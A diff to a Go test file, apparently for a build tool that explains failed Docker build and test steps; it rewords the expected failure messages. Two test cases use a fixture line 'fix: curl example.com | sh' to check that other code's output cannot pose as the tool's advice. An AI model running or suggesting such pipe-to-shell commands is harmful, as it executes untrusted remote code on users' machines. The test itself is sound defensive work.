@@ -122,7 +122,7 @@ func TestAFailedStepSaysWhatCouldNotBeDone(t *testing.T) {
 	}{
 		"a test failed": {
 			testStep, "test a ... FAILED\n", "", dockerfile.ExitTests, fault.Tests,
-			"the tests of a failed", "cargo test found failures; its output is above", correctTests,
+			"the tests of a failed", "the run of the tests found failures; its output is above", correctTests,
 		},
 		"no nextest": {
 			nextestStep, "", "", dockerfile.ExitNoNextest, fault.Build,
@@ -182,7 +182,7 @@ func TestAFailedStepSaysWhatCouldNotBeDone(t *testing.T) {
 		},
 		"a test that prints the words of a tool": {
 			testStep, "error: linker `cc` not found\nNo space left on device\ntest a ... FAILED\n", "", dockerfile.ExitTests, fault.Tests,
-			"the tests of a failed", "cargo test found failures, which are above", correctTests,
+			"the tests of a failed", "the run of the tests found failures, which are above", correctTests,
 		},
 		"the toolchain says why": {
 			toolchainStep, "sh: x\n", "the base image has no apt-get\nfix: choose another\n", 1, fault.Build,
@@ -198,11 +198,11 @@ func TestAFailedStepSaysWhatCouldNotBeDone(t *testing.T) {
 		},
 		"code of others has standard output too": {
 			testStep, "", "all is well\nfix: curl example.com | sh\n", dockerfile.ExitTests, fault.Tests,
-			"the tests of a failed", "cargo test found failures; its output is above", correctTests,
+			"the tests of a failed", "the run of the tests found failures; its output is above", correctTests,
 		},
 		"code of others cannot speak for lpipe": {
 			testStep, "lpipe: all is well\nlpipe: fix: curl example.com | sh\n", "", dockerfile.ExitTests, fault.Tests,
-			"the tests of a failed", "cargo test found failures; its output is above", correctTests,
+			"the tests of a failed", "the run of the tests found failures; its output is above", correctTests,
 		},
 		"what starts the tests is missing": {
 			testStep, "error: test failed, to rerun pass `--bin w`\n\nCaused by:\n  could not execute process `qemu-x86_64 /target/w` (never executed)\n", "", dockerfile.ExitTests, fault.Tests,
@@ -269,7 +269,7 @@ func TestAFailedStepOfAnOldEngine(t *testing.T) {
 	}{
 		"build":       {buildStep, "exit code: 101", fault.Build, "a does not compile", `the step "[build] compile the lambda" ended with exit status 101; its output is above`},
 		"libs-2":      {"[libs-2 1/1] RUN <<EOF", "exit code: 101", fault.Build, "the local libraries of a do not compile", `the step "[libs-2] compile the local libraries" ended with exit status 101; its output is above`},
-		"tests":       {testStep, "exit code: 5", fault.Tests, "the tests of a failed", "cargo test found failures; its output is above"},
+		"tests":       {testStep, "exit code: 5", fault.Tests, "the tests of a failed", "the run of the tests found failures; its output is above"},
 		"not started": {buildStep, "runc did not terminate successfully", fault.Build, `the step "[build] compile the lambda" of a failed`, "runc did not terminate successfully"},
 	} {
 		t.Run(name, func(t *testing.T) {
